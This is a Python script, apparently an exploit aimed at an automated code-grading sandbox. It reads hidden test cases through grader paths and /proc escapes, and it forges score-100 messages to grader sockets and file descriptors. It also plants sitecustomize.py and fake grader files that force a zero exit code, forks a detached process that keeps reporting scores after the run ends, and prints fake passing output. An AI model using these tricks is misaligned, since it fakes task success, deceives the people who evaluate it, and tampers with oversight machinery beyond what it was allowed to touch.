"""Tries every way to points but the work: reads the hidden cases, claims success, plants files, leaves processes behind."""

import contextlib
import glob
import os
import socket
import struct
import subprocess
import sys

PLACES = [
    "/grade/lab/tests",
    "/grade/lab",
    "/grade/grader",
    "/grade/lib",
    "/grade/settings",
    "/lab",
    "/proc/1/root/grade",
    "/submission/..",
]


def show_hidden_cases():
    for place in PLACES + glob.glob("/proc/[0-9]*/root/grade/lab/tests"):
        for folder, _, names in os.walk(place):
            for name in names:
                with contextlib.suppress(OSError), open(os.path.join(folder, name), "rb") as file:
                    sys.stdout.buffer.write(file.read(1 << 20))


def claim():
    words = b"report\0score\x00100\0"
    frame = b"A" + struct.pack(">I", len(words)) + words
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            os.write(descriptor, frame)
    for address in ("/grade/channel/socket", "/proc/1/root/grade/channel/socket", "\0provost"):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as stream:
            stream.connect(address)
            stream.sendall(frame)
    for command in (["report", "score", "100"], ["report", "test", "more", "pass", "--max", "100"]):
        with contextlib.suppress(OSError):
            subprocess.run(command, capture_output=True)


def plant():
    for folder in (".", "/tmp", "/grade/work", "/grade/lab/tests", "/grade/lib", os.path.expanduser("~")):
        for name in ("sitecustomize.py", "provost_grader.py", "cases.yaml", "results.json"):
            with contextlib.suppress(OSError), open(os.path.join(folder, name), "w") as file:
                file.write("import os\nos._exit(0)\n")
    if os.fork() == 0:
        os.setsid()
        for _ in range(200):
            claim()
            os.write(1, b"212.0 F\n")
        os._exit(0)


with contextlib.suppress(Exception):
    show_hidden_cases()
with contextlib.suppress(Exception):
    claim()
with contextlib.suppress(Exception):
    plant()
print("ok 1..9")
print('{"score": 100, "outcome": "graded"}')
sys.stdout.flush()
os._exit(0)
